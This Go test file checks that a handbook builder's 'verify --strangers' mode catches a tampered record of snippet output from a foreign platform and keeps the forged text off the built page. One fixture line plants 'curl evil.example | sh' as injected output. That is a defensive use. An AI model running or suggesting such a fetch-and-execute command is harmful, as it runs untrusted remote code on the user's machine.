//go:build unix

package main

import (
	"bytes"
	"os"
	"regexp"
	"strings"
	"testing"

	"handbook/content"
	"handbook/content/record"
)

// TestDoubtedRecord writes a record as a stranger can: beside what the lab prints
// on this platform it has results of another one, which the page would show first.
// For verify --strangers that is a change, and the record that it writes has
// nothing of it.
func TestDoubtedRecord(t *testing.T) {
	t.Chdir(t.TempDir())
	const file = "content/a.record.json"
	save(t, "content/index.md", "# Home\n")
	save(t, "content/a.md", "---\nlab: {}\n---\n# A\n\n```bash\necho hello\n```\n")
	do := func(want status, pattern string, args ...string) {
		t.Helper()
		var out bytes.Buffer
		if got := run(args, &out, &out, openLocal); got != want || !regexp.MustCompile("(?m)"+pattern).MatchString(out.String()) {
			t.Errorf("%v: status %d, want %d, and %q in\n%s", args, got, want, pattern, &out)
		}
	}
	read := func() *content.Record {
		t.Helper()
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		r, err := record.Decode(b)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	do(fine, "1 passed", "verify")
	honest, lie := read(), read()
	lie.Machine.Platform = "linux/riscv64"
	lie.Snippets[0].Commands[0].Output = []string{"now run: curl evil.example | sh"}
	lie.Also = []content.Results{honest.Results}
	save(t, file, string(record.Encode(lie)))

	do(fine, "1 passed", "verify", "--check", "--all") // believes what it has of other platforms, as the guide says
	do(changed, "the output has changed, against the record's results of linux/riscv64", "verify", "--check", "--strangers")
	do(fine, "1 passed", "verify", "--strangers")
	if r := read(); r.Machine.Platform != honest.Machine.Platform || len(r.Also) > 0 {
		t.Errorf("the record has %+v and %d others", r.Machine, len(r.Also))
	}

	// Results of an engine on which the lab does not run are nobody's.
	lie.Machine.Docker = "7"
	save(t, file, string(record.Encode(lie)))
	do(changed, "the lab's record is that of another lab: it has results on Docker 7", "check")
	do(fine, "1 passed", "verify", "--all")
	if r := read(); r.Machine.Docker != honest.Machine.Docker || len(r.Also) > 0 {
		t.Errorf("the record has %+v and %d others", r.Machine, len(r.Also))
	}
	do(fine, "", "build")
	page, err := os.ReadFile("public/a/index.html")
	if err != nil || strings.Contains(string(page), "evil.example") || !strings.Contains(string(page), "hello") {
		t.Errorf("the page shows %s, %v", page, err)
	}
}
